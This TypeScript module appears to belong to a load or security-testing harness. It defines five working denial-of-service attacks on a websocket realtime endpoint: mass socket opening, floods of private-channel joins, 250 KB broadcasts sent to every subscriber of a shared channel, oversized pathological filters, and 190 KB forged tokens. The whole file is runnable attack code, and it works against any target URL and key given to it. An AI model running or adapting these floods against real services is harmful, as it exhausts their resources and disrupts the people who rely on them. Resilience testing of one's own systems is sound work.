import { once } from 'node:events';
import { WebSocket } from 'ws';
import { register } from './account.ts';
import type { Attack } from './attack.ts';
import type { Network } from './network.ts';

const quarterMegabyte = 250_000;
/** Sockets that one network keeps open at the most: a bound for this machine, not for the product. */
const maxKept = 300;

/** @returns the socket, or the status with which the product refused it */
async function open({ target, headers }: Network): Promise<WebSocket | string> {
  const url = `${target.url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${target.publishableKey}&vsn=1.0.0`;
  const socket = new WebSocket(url, { headers });
  socket.on('error', () => {});
  const refused = once(socket, 'unexpected-response').then(([, response]) => {
    const { statusCode } = response as { statusCode: number };
    socket.terminate();
    return `refused ${statusCode}`;
  });
  const opened = once(socket, 'open').then(() => socket);
  return Promise.race([opened, refused]);
}

interface Frame {
  readonly topic: string;
  readonly event: string;
  readonly payload: unknown;
}

function send(socket: WebSocket, { topic, event, payload }: Frame): void {
  socket.send(JSON.stringify({ topic, event, payload, ref: '1', join_ref: '1' }));
}

/** Keeps one socket open, and opens it again when the product closes it. */
function keepOpen(network: Network, onOpen: (socket: WebSocket) => void) {
  let current: WebSocket | undefined;
  return async (): Promise<WebSocket | string> => {
    if (current?.readyState === WebSocket.OPEN) return current;
    const socket = await open(network);
    if (typeof socket === 'string') return socket;
    current = socket;
    onOpen(socket);
    return socket;
  };
}

/** Attacks on `realtime/v1`. */
export const attacksOnRealtime: readonly Attack[] = [
  {
    name: 'V10 as many sockets as there are',
    perSecond: 20,
    begin: async (network) => {
      const kept = new Set<WebSocket>();
      return async () => {
        if (kept.size >= maxKept) return 'kept enough';
        const socket = await open(network);
        if (typeof socket === 'string') return socket;
        kept.add(socket);
        socket.once('close', () => kept.delete(socket));
        return 'opened';
      };
    },
  },
  {
    name: 'V10 joins of private channels',
    perSecond: 20,
    begin: async (network) => {
      const socketOf = keepOpen(network, () => {});
      return async (attempt) => {
        const socket = await socketOf();
        if (typeof socket === 'string') return socket;
        const topic = `realtime:room-${attempt}`;
        send(socket, { topic, event: 'phx_join', payload: { config: { private: true } } });
        return 'asked';
      };
    },
  },
  {
    name: 'V11 250 KB to everybody on the channel of the tablets',
    perSecond: 4,
    begin: async (network) => {
      const topic = 'realtime:changes';
      const socketOf = keepOpen(network, (socket) =>
        send(socket, { topic, event: 'phx_join', payload: { config: { broadcast: {}, presence: {} } } }),
      );
      const payload = { type: 'broadcast', event: 'x', payload: { text: 'x'.repeat(quarterMegabyte) } };
      return async () => {
        const socket = await socketOf();
        if (typeof socket === 'string') return socket;
        send(socket, { topic, event: 'broadcast', payload });
        return 'sent';
      };
    },
  },
  {
    name: 'V7, V10 filters of 2,000 characters',
    perSecond: 2,
    begin: async (network) => {
      const { accessToken } = await register(network);
      const socketOf = keepOpen(network, () => {});
      const filter = `name=in.(${'("'.repeat(1000)})`;
      const changes = Array.from({ length: 50 }, () => ({
        event: '*',
        schema: 'public',
        table: 'reviews',
        filter,
      }));
      return async (attempt) => {
        const socket = await socketOf();
        if (typeof socket === 'string') return socket;
        const payload = { config: { postgres_changes: changes }, access_token: accessToken };
        send(socket, { topic: `realtime:filters-${attempt}`, event: 'phx_join', payload });
        return 'asked';
      };
    },
  },
  {
    name: 'V9 tokens of 190 KB over a websocket',
    perSecond: 2,
    begin: async (network) => {
      const socketOf = keepOpen(network, () => {});
      return async (attempt) => {
        const socket = await socketOf();
        if (typeof socket === 'string') return socket;
        const token = `eyJhbGciOiJFUzI1NiJ9.${'x'.repeat(190_000)}${attempt}.x`;
        const payload = { config: {}, access_token: token };
        send(socket, { topic: 'realtime:token', event: 'phx_join', payload });
        return 'asked';
      };
    },
  },
];
